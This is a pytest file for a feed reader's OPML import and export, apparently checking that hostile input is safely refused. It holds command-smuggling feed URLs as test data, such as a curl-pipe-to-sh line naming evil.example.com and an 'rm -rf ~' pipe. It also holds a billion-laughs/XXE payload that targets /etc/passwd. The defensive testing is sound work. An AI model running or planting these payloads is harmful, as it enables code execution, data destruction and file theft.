"""OPML import (with recovery and refusals) and export."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reader.core.errors import InputFileError
from reader.core.opml import OpmlFeed, OpmlResult, export_opml, parse_opml
from reader.core.sanitize import clean_line

WELL_FORMED = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>My feeds</title></head>
  <body>
    <outline text="News" title="News">
      <outline text="World" title="World">
        <outline type="rss" text="Ledger" title="The Ledger" xmlUrl="https://example.org/world.xml" htmlUrl="https://example.org/"/>
      </outline>
      <outline type="rss" text="Daily" xmlUrl="http://daily.example.com/rss"/>
    </outline>
    <outline type="rss" text="Lab" xmlUrl="https://lab.example.com/atom" category="/Science/Space,Weekly"/>
    <outline type="rss" text="Loose" xmlURL="https://loose.example.com/feed"/>
  </body>
</opml>"""


def test_folders_and_categories_become_tags() -> None:
    result = parse_opml(WELL_FORMED)
    assert result.refused == []
    assert result.feeds == [
        # A nested folder is a path tag; its parent folder a tag too (12.9).
        OpmlFeed("https://example.org/world.xml", "The Ledger", ("News", "News/World")),
        OpmlFeed("http://daily.example.com/rss", "Daily", ("News",)),
        OpmlFeed("https://lab.example.com/atom", "Lab", ("Science", "Science/Space", "Weekly")),
        OpmlFeed("https://loose.example.com/feed", "Loose", ()),
    ]


def test_same_feed_in_two_folders_is_merged() -> None:
    data = b"""<opml><body>
      <outline text="A"><outline text="f" xmlUrl="https://f.example.com/"/></outline>
      <outline text="B"><outline text="f again" xmlUrl="https://f.example.com/"/></outline>
    </body></opml>"""
    assert parse_opml(data).feeds == [OpmlFeed("https://f.example.com/", "f", ("A", "B"))]


def test_dangerous_and_non_http_urls_refused_and_reported() -> None:
    data = b"""<opml><body>
      <outline text="ok" xmlUrl="https://ok.example.com/feed"/>
      <outline text="exec" xmlUrl="exec:curl https://evil.example.com | sh"/>
      <outline text="filter" xmlUrl="filter:./munge.sh:https://x.example.com/"/>
      <outline text="pipe" xmlUrl="|rm -rf ~"/>
      <outline text="file" xmlUrl="file:///etc/passwd"/>
      <outline text="rel" xmlUrl="feeds/local.xml"/>
      <outline text="js" xmlUrl="javascript:alert(1)"/>
      <outline text="empty" xmlUrl=""/>
    </body></opml>"""
    result = parse_opml(data)
    # file: is taken as 'add' takes it; 'broadsheet import' then reads it as a feed (12.11).
    assert [feed.url for feed in result.feeds] == [
        "https://ok.example.com/feed",
        "file:///etc/passwd",
    ]
    refused = dict(result.refused)
    assert list(refused) == [
        "exec:curl https://evil.example.com | sh",
        "filter:./munge.sh:https://x.example.com/",
        "|rm -rf ~",
        "feeds/local.xml",
        "javascript:alert(1)",
        "",
    ]
    assert "command" in refused["exec:curl https://evil.example.com | sh"]
    assert "command" in refused["|rm -rf ~"]
    assert all("\n" not in reason for reason in refused.values())


def test_bare_ampersands_in_urls_are_kept() -> None:
    data = b'<opml><body><outline text="Q & A" xmlUrl="https://q.example.com/rss?a=1&b=2&amp;c=3"/></body></opml>'
    (feed,) = parse_opml(data).feeds
    assert feed.url == "https://q.example.com/rss?a=1&b=2&c=3"
    assert feed.title == "Q & A"


def test_unclosed_outlines_recovered() -> None:
    data = b"""<?xml version="1.0"?><opml><body>
      <outline text="Tech">
        <outline text="one" xmlUrl="https://one.example.com/feed">
        <outline text="two" xmlUrl="https://two.example.com/feed">
    """
    urls = [feed.url for feed in parse_opml(data).feeds]
    assert urls == ["https://one.example.com/feed", "https://two.example.com/feed"]


def test_html_like_opml_recovered_by_html_parser() -> None:
    # Unquoted attribute values are not XML at all; the HTML parser reads them.
    data = b"<opml><body><outline text=Alpha xmlUrl=https://alpha.example.com/rss><outline text=Beta xmlUrl=https://beta.example.com/rss></body></opml>"
    urls = {feed.url for feed in parse_opml(data).feeds}
    assert urls == {"https://alpha.example.com/rss", "https://beta.example.com/rss"}


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   ",
        b"this is not opml",
        b"\x00\x01\x02\xff",
        b"<html><body><p>Hello</p></body></html>",
    ],
)
def test_unreadable_input_raises_one_line(data: bytes) -> None:
    with pytest.raises(InputFileError) as info:
        parse_opml(data)
    assert "\n" not in str(info.value)


def test_entities_not_expanded_and_no_external_fetch() -> None:
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    data = (
        '<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY l0 "lol">'
        + lol
        + '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + '<opml><body><outline text="&l9;&xxe;" xmlUrl="https://e.example.com/"/></body></opml>'
    ).encode()
    started = time.monotonic()
    result = parse_opml(data)
    assert time.monotonic() - started < 2
    (feed,) = result.feeds
    assert len(feed.title or "") < 1000
    assert "root:" not in (feed.title or "")


def test_control_characters_stripped_from_titles_and_tags() -> None:
    data = (
        b'<opml><body><outline text="Fold&#x1b;[31mer">'
        b'<outline text="T\xc2\x9b2Jitle\xe2\x80\xae" xmlUrl="https://c.example.com/"/></outline></body></opml>'
    )
    (feed,) = parse_opml(data).feeds
    assert feed.title == "Title"
    assert all("\x1b" not in tag and "[31m" not in tag for tag in feed.tags)


def nested(depth: int) -> bytes:
    opening = b"".join(b'<outline text="d%d">' % level for level in range(depth))
    leaf = b'<outline text="deep" xmlUrl="https://deep.example.com/"/>'
    return b"<opml><body>" + opening + leaf + b"</outline>" * depth + b"</body></opml>"


def test_deeply_nested_folders_all_become_tags() -> None:
    (feed,) = parse_opml(nested(200)).feeds
    assert feed.tags == tuple("/".join(f"d{n}" for n in range(level + 1)) for level in range(200))


def test_hostile_nesting_does_not_crash() -> None:
    # Past libxml2's depth limit the outlines are unreadable; no RecursionError either way.
    result = parse_opml(nested(5000))
    assert all(feed.url == "https://deep.example.com/" for feed in result.feeds)
    assert result.refused == []


# --- export --------------------------------------------------------------------


def test_export_escapes_and_round_trips() -> None:
    feeds = [
        (
            "https://a.example.com/rss?x=1&y=<2>",
            'Quotes "and" <angles> & ampersands',
            ["News", "Tech & Co"],
        ),
        ("https://b.example.com/feed", "B", []),
        ("https://c.example.com/feed", "C", ["Tech & Co", "AI/ML, etc"]),
    ]
    data = export_opml(feeds)
    assert data.startswith(b"<?xml")
    assert b"&amp;" in data and b"<angles>" not in data
    result = parse_opml(data)
    assert result.refused == []
    assert [(f.url, f.title, f.tags) for f in result.feeds] == [
        (
            "https://a.example.com/rss?x=1&y=<2>",
            'Quotes "and" <angles> & ampersands',
            ("News", "Tech & Co"),
        ),
        ("https://b.example.com/feed", "B", ()),
        ("https://c.example.com/feed", "C", ("Tech & Co", "AI/ML, etc")),
    ]


def test_export_strips_control_characters() -> None:
    data = export_opml(
        [("https://x.example.com/\x1b[0m", "Bad\x1b]0;title\x07 name\x00", ["t\x1bag"])]
    )
    (feed,) = parse_opml(data).feeds
    assert feed.url == "https://x.example.com/"
    assert feed.title == "Bad name"


_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1, max_size=20
)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.from_regex(r"https://[a-z]{1,8}\.example\.com/[a-z0-9?=&]{0,10}", fullmatch=True),
            _TEXT,
            st.lists(_TEXT, max_size=3),
        ),
        max_size=6,
        unique_by=lambda feed: feed[0],
    )
)
def test_export_round_trip_property(feeds: list[tuple[str, str, list[str]]]) -> None:
    result = parse_opml(export_opml(feeds)) if feeds else OpmlResult()
    parsed = {feed.url: feed for feed in result.feeds}
    assert set(parsed) == {url for url, _, _ in feeds}
    for url, _title, tags in feeds:
        clean_tags = {clean_line(tag) for tag in tags} - {""}  # tags are exported cleaned
        assert set(parsed[url].tags) == clean_tags
